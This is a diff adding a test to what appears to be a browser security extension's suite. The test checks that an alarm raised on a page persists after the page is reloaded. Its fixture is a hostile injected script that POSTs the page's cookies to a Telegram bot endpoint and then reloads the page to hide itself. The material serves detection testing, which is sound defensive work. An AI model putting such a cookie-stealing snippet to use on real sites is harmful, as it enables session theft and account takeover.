@@ -250,6 +250,54 @@ describeEachBrowser('lifecycle', (context) => {
     );
   });
 
+  it('a helper that steals the session and reloads the page to hide it: the new page starts clean, the alarm stays in view', async () => {
+    const saq = await context.launch();
+    const tag = 'steal-and-reload';
+    // The cookie to a Telegram bot, then a reload; on the reloaded page the helper lies low.
+    const helper = `(() => {
+      if (performance.getEntriesByType('navigation')[0]?.type === 'reload') { window.__reloaded = true; return; }
+      fetch(${JSON.stringify(telegramUrl(tag))}, { method: 'POST', mode: 'no-cors', body: document.cookie }).catch(() => {});
+      setTimeout(() => location.reload(), 1500);
+    })();`;
+    const path = await serveHostilePage(context.shop, `${PRODUCT}?life=${tag}`, PRODUCT, { end: fromCdn(tag) }, { [tag]: helper });
+    const visit = await open(saq, path);
+    await eventually(
+      () => visit.page.evaluate(() => (window as unknown as { __reloaded?: boolean }).__reloaded === true).catch(() => false),
+      Boolean,
+      'the helper to reload the page',
+    );
+    const stolen = ofKind('exfiltration', mentions('api.telegram.org'));
+    const report = await eventually(
+      () => saq.report(visit.tabId),
+      (r) => (r.earlier ?? null) !== null && r.leftAt === null,
+      "the reloaded page's record, with the alarm of the page before",
+    );
+    expect(report.pageUrl).toContain(`life=${tag}`);
+    expect(report.verdicts.some(stolen), 'the reloaded page sent nothing').toBe(false);
+    expect(report.earlier!.severity).toBe('critical');
+    expect(report.earlier!.verdicts.some(stolen)).toBe(true);
+    await eventually(
+      () => saq.badgeText(visit.tabId),
+      (text) => text !== '',
+      'the badge on the reloaded page',
+    );
+    const popup = await saq.openPopup(visit.tabId);
+    const headline = await popup.$eval('[data-testid="verdict"]', (node) => ({
+      severity: node.getAttribute('data-severity'),
+      earlier: node.querySelector('[data-testid="earlier-page"]')?.textContent ?? '',
+    }));
+    expect(headline.severity).toBe('critical');
+    expect(headline.earlier).not.toBe('');
+    expect(await popup.$('[data-testid="earlier-findings"]')).not.toBeNull();
+    await popup.close();
+    await visit.page.close();
+    await eventually(
+      () => saq.report(visit.tabId),
+      (r) => r.pageUrl === null && r.earlier === null,
+      'the alarm dropped when the tab closed',
+    );
+  });
+
   it('a shop page the tab goes back to from the back-forward cache is watched again: the helper acting there is judged', async () => {
     const saq = await context.launch();
     const tag = 'bfcache';
